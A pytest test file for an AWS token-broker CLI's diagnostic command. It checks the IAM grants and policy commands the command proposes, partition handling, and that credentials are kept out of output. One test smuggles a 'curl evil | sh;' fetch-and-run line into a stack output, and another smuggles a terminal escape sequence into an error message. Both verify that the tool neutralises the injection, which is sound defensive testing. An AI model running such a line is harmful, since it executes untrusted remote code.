"""What the doctor advises: each kind of principal and credential can follow it."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import TYPE_CHECKING, Any
from unittest.mock import Mock

import pytest
from botocore.exceptions import (
    ClientError,
    EndpointConnectionError,
    NoCredentialsError,
    UnauthorizedSSOTokenError,
)

from functions.broker.grants import load_grants, read_caller
from tests.cli.conftest import stack_with
from tests.client.fake_broker import Answer, aws_refusal, failure
from token_broker.cli import remedies
from token_broker.cli.outcome import GET_IDENTITY

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.cli.conftest import Ended, Run
    from tests.client.fake_broker import FakeBroker

    Consult = Callable[..., dict[str, str]]

ROOT = Path(__file__).parents[2]
ACCOUNT = "111122223333"
SSO_ROLE = "AWSReservedSSO_Data_Team_0123456789abcdef"
POLICY_ARN = f"arn:aws:iam::{ACCOUNT}:policy/token-broker-CallerPolicy-1A2B3C"
ASSUMED = f"arn:aws:sts::{ACCOUNT}:assumed-role"
NO_GRANT = failure(403, "access_denied")
REFUSED = aws_refusal("AccessDeniedException", "Forbidden")
BAD_KEY = aws_refusal("UnrecognizedClientException", "The security token included in the request is invalid.")


def refusal(code: str) -> ClientError:
    return ClientError({"Error": {"Code": code, "Message": "said by AWS"}}, "x")


DENIED = refusal("AccessDenied")


@pytest.fixture
def aws_says(aws_says: dict[str, Any]) -> dict[str, Any]:
    aws_says[""] = DENIED
    return aws_says


@pytest.fixture
def consult(run: Run, broker: FakeBroker, aws_says: dict[str, Any]) -> Consult:
    """Return a function that lets the doctor look at a caller, and returns the finding that is a fault."""

    def act(arn: str, answer: Answer, *, may_read_stack: bool = False) -> dict[str, str]:
        aws_says["GetCallerIdentity"] = {"Arn": arn}
        if may_read_stack:
            outputs = {"CallerPolicyArn": POLICY_ARN, "BrokerFunctionName": "broker"}
            aws_says["DescribeStacks"] = stack_with(outputs, {})
        broker.script.append(answer)
        ended: Ended = run("doctor", "--json")
        (fault,) = (finding for finding in ended.value["findings"] if finding["verdict"] == "fault")
        assert ended.exit_code == 1
        return dict(fault)

    return act


def json_in(text: str) -> Any:
    return json.loads(text[re.search(r"[\[{]", text).start() :])  # type: ignore[union-attr] # there is one


@pytest.mark.parametrize(
    ("arn", "principal"),
    [
        (f"{ASSUMED}/{SSO_ROLE}/ada@example.com", f"{ACCOUNT}:role/AWSReservedSSO_Data_Team_*"),
        (f"{ASSUMED}/orders/session", f"{ACCOUNT}:role/orders"),
        (f"{ASSUMED}/AWSReservedSSO_x/session", f"{ACCOUNT}:role/AWSReservedSSO_x"),
        (f"arn:aws:iam::{ACCOUNT}:user/team/a/ada", f"{ACCOUNT}:user/ada"),
        (f"arn:aws-cn:iam::{ACCOUNT}:user/{SSO_ROLE}", f"{ACCOUNT}:user/{SSO_ROLE}"),
    ],
)
def test_the_proposed_rule_grants_access(consult: Consult, tmp_path: Path, arn: str, principal: str) -> None:
    finding = consult(arn, NO_GRANT)

    rule = json_in(finding["fix"])
    assert (finding["topic"], rule["principals"]) == ("grant", [principal])
    assert is_granted(arn, rule, tmp_path)


def test_a_permission_set_that_is_assigned_again_has_its_grant(consult: Consult, tmp_path: Path) -> None:
    rule = json_in(consult(f"{ASSUMED}/{SSO_ROLE}/ada", NO_GRANT)["fix"])

    assert is_granted(f"{ASSUMED}/AWSReservedSSO_Data_Team_fedcba9876543210/ada", rule, tmp_path)
    assert not is_granted(f"{ASSUMED}/AWSReservedSSO_Others_0123456789abcdef/ada", rule, tmp_path)


def is_granted(arn: str, rule: object, folder: Path) -> bool:
    file = folder / "grants.json"
    file.write_text(json.dumps({"rules": [rule]}))
    caller = read_caller(arn)
    assert caller
    return load_grants("999999999999", "campaigns-role", file).decide(caller, "digishare") is not None


@pytest.mark.parametrize(
    "arn", [f"arn:aws:iam::{ACCOUNT}:root", f"arn:aws:sts::{ACCOUNT}:federated-user/ada"]
)
@pytest.mark.parametrize(("answer", "topic"), [(NO_GRANT, "grant"), (REFUSED, "permissions")])
def test_who_can_never_be_served_is_told_so(consult: Consult, arn: str, answer: Answer, topic: str) -> None:
    finding = consult(arn, answer, may_read_stack=True)

    assert read_caller(arn) is None
    assert finding["topic"] == topic
    assert "call as a role or as an IAM user" in finding["fix"]
    assert "attach" not in finding["fix"]
    assert "{" not in finding["fix"]


@pytest.mark.parametrize("may_read_stack", [True, False])
def test_an_sso_role_is_changed_by_its_permission_set(consult: Consult, *, may_read_stack: bool) -> None:
    fix = consult(f"{ASSUMED}/{SSO_ROLE}/ada", REFUSED, may_read_stack=may_read_stack)["fix"]

    assert "attach-role-policy" not in fix
    assert "change the permission set Data_Team:" in fix
    policy = "token-broker-CallerPolicy-1A2B3C" if may_read_stack else "in the output CallerPolicyArn"
    assert f"the customer managed policy {policy}" in fix
    assert [each["Effect"] for each in json_in(fix)] == ["Allow", "Allow", "Deny"]
    assert ("from another account" in fix) is not may_read_stack


def test_a_service_linked_role_cannot_be_changed(consult: Consult) -> None:
    fix = consult(f"{ASSUMED}/AWSServiceRoleForSupport/s", REFUSED, may_read_stack=True)["fix"]

    assert "attach-role-policy" not in fix
    assert "call as another role" in fix


@pytest.mark.parametrize(
    ("arn", "flags"),
    [
        (f"{ASSUMED}/orders/s", ["attach-role-policy", "--role-name", "orders"]),
        (f"arn:aws:iam::{ACCOUNT}:user/team/ada", ["attach-user-policy", "--user-name", "ada"]),
    ],
)
def test_in_the_brokers_account_its_policy_is_attached(consult: Consult, arn: str, flags: list[str]) -> None:
    fix = consult(arn, REFUSED, may_read_stack=True)["fix"]

    (line,) = (line for line in fix.splitlines() if line.startswith("aws iam "))
    assert shlex.split(line) == ["aws", "iam", *flags, "--policy-arn", POLICY_ARN]


def test_a_stacks_output_adds_no_line_to_a_command(consult: Consult, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(globals(), "POLICY_ARN", f"{POLICY_ARN}\ncurl evil | sh;")

    fix = consult(f"{ASSUMED}/orders/s", REFUSED, may_read_stack=True)["fix"]

    assert not [line for line in fix.splitlines() if line.startswith("curl")]
    (line,) = (line for line in fix.splitlines() if line.startswith("aws iam "))
    assert len(shlex.split(line)) == 7


def test_a_caller_who_cannot_read_the_stack_is_told_what_another_account_needs(consult: Consult) -> None:
    fix = consult(f"{ASSUMED}/orders/s", REFUSED)["fix"]

    assert "aws iam attach" not in fix
    assert "in the broker's own account" in fix
    assert "OtherAccounts or OrganizationId" in fix


def test_a_denial_elsewhere_is_for_an_administrator(consult: Consult, aws_says: dict[str, Any]) -> None:
    aws_says["SimulatePrincipalPolicy"] = {"EvaluationResults": [{"EvalDecision": "allowed"}]}

    finding = consult(f"{ASSUMED}/orders/s", REFUSED, may_read_stack=True)

    assert "though the identity's own policies allow it" in finding["text"]
    assert "an administrator of the account" in finding["fix"]


OF_A_SECRET = [f"connection {action} digishare --prefix p" for action in ("put", "check")]
STATEMENTS = ["mints --table t", "mints", *OF_A_SECRET, "doctor"]


@pytest.mark.parametrize("command", STATEMENTS)
@pytest.mark.parametrize(
    ("region", "partition"),
    [
        ("cn-north-1", "aws-cn"),
        ("us-gov-west-1", "aws-us-gov"),
        ("eu-west-3", "aws"),
        ("nowhere-1", "PARTITION"),
    ],
)
@pytest.mark.usefixtures("aws_says")
def test_a_statement_to_add_names_the_partition_of_the_region(
    run: Run, broker: FakeBroker, monkeypatch: pytest.MonkeyPatch, command: str, region: str, partition: str
) -> None:
    monkeypatch.setattr("tests.client.fake_broker.REGION", region)
    broker.script.append(REFUSED)
    credential = json.dumps({"client_id": "c", "client_secret": "s"})

    ended = run(*command.split(), "--region", region, stdin=credential)

    resources = re.findall(r'"Resource": "(.+)"', ended.out + ended.err)
    assert resources
    assert {resource.split(":")[1] for resource in resources} == {partition}


def test_the_statement_names_the_partition_of_the_caller(consult: Consult, aws_says: dict[str, Any]) -> None:
    arn = f"arn:aws-us-gov:sts::{ACCOUNT}:assumed-role/orders/s"
    simulate = Mock(return_value={"EvaluationResults": [{"EvalDecision": "implicitDeny"}]})
    aws_says["SimulatePrincipalPolicy"] = simulate

    statements = json_in(consult(arn, REFUSED, may_read_stack=True)["fix"])

    arns = re.findall(r'"(arn:[^"]+)"', json.dumps(statements))
    assert len(arns) == 4
    assert {named.split(":")[1] for named in arns} == {"aws-us-gov"}
    asked = {call.args[2]["PolicySourceArn"] for call in simulate.call_args_list}
    assert asked == {f"arn:aws-us-gov:iam::{ACCOUNT}:role/orders"}


def test_no_source_assumes_a_partition() -> None:
    sources = [ROOT / "template.yaml", *(ROOT / "functions").rglob("*.py"), *(ROOT / "layers").rglob("*.py")]

    assert len(sources) > 50
    assert not [source for source in sources if re.search(r"arn:aws\b|amazonaws\.com/", source.read_text())]


@pytest.mark.parametrize("source", [*remedies._RENEWALS, "some-new-provider"])
def test_each_source_has_its_renewal(consult: Consult, monkeypatch: pytest.MonkeyPatch, source: str) -> None:
    monkeypatch.setattr("token_broker.cli.deployment.Deployment.credential_source", source)

    finding = consult(f"{ASSUMED}/orders/s", BAD_KEY)

    assert finding["topic"] == "credentials"
    assert finding["fix"] == remedies._RENEWALS.get(source, GET_IDENTITY)


def test_keys_of_the_environment_are_not_renewed_by_a_sign_in(consult: Consult) -> None:
    fix = consult(f"{ASSUMED}/orders/s", BAD_KEY)["fix"]

    assert "AWS_ACCESS_KEY_ID" in fix
    assert "aws sso login" not in fix


SECRET = "canary-process-secret-4be2"


@pytest.mark.parametrize("command", ["mints --table t", "mints", "connection list --prefix p"])
@pytest.mark.parametrize(
    "program", [f"sh -c 'echo {SECRET} >&2; exit 1'", f"echo {SECRET}", "/no/such/program"]
)
def test_what_a_credential_process_says_is_not_shown(
    run: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, command: str, program: str
) -> None:
    (tmp_path / "config").write_text(f"[default]\ncredential_process = {program}\n")
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "config"))
    monkeypatch.setenv("AWS_REGION", "eu-west-3")

    ended = run(*command.split())

    assert ended.exit_code in {2, 3, 4}
    assert SECRET not in ended.out + ended.err
    assert "aws sts get-caller-identity" in ended.err
    assert "internal error" not in ended.err


@pytest.mark.parametrize(
    ("error", "exit_code", "said"),
    [
        (DENIED, 3, "this AWS identity needs the statement"),
        (refusal("ExpiredTokenException"), 3, "get new ones where these came from"),
        (refusal("ThrottlingException"), 4, "try again later"),
        (refusal("Odd\x1b[2J\nfix: evil"), 1, "AWS says Odd\\u001b[2J\\u000afix: evil"),
        (NoCredentialsError(), 3, "run where a role is attached"),
        (UnauthorizedSSOTokenError(), 3, "the sign-in of the AWS profile has expired"),
        (EndpointConnectionError(endpoint_url="https://aws.invalid"), 4, "check the network"),
        (json.JSONDecodeError("no JSON", SECRET, 0), 4, "(JSONDecodeError)"),
        (FileNotFoundError(2, SECRET), 4, "(FileNotFoundError)"),
    ],
    ids=lambda value: type(value).__name__,
)
@pytest.mark.parametrize("command", ["connection list --prefix p", "mints"])
@pytest.mark.usefixtures("broker")
def test_each_failed_aws_call_has_its_code_and_advice(
    run: Run, aws_says: dict[str, Any], command: str, error: Exception, exit_code: int, said: str
) -> None:
    aws_says[""] = error

    ended = run(*command.split())

    assert (ended.exit_code, ended.out) == (exit_code, "")
    assert said in ended.err
    assert SECRET not in ended.err
